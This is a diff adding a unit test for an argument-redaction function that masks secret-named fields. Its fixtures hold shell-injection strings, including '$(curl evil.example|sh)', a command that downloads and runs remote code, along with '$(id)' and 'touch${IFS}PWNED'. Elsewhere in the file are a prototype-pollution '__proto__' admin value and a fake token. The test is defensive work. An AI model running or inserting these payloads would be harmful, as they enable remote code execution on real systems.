@@ -11,6 +11,17 @@ describe('projectArguments', () => {
     expect(JSON.stringify(projected)).toBe('{"id":7,"__proto__":{"role":"admin"}}');
   });
 
+  it('masks a credential-named or secret member up to the first character that can carry code, and shows the rest', () => {
+    const args = { api_key: 'k3y;touch${IFS}PWNED', Authorization: 'Bearer abc123$(id)', token: '$(curl evil.example|sh)', password: 'hunter2hunter2', login: 'pw12`id`' };
+    expect(projectArguments(args, { secretKeys: new Set(['login']) })).toEqual({
+      api_key: '[redacted];touch${IFS}PWNED',
+      Authorization: 'Bearer [redacted]$(id)',
+      token: '$(curl evil.example|sh)',
+      password: '[redacted]',
+      login: '[redacted]`id`',
+    });
+  });
+
   it('judges a member name the same every time it recurs, past any number of other names', () => {
     const token = `ghp_${'c'.repeat(36)}`;
     const args = { [token]: 'one', password: 'hunter2hunter2', path: 'notes/today.md', 'X-Api-Key': 12345678 };
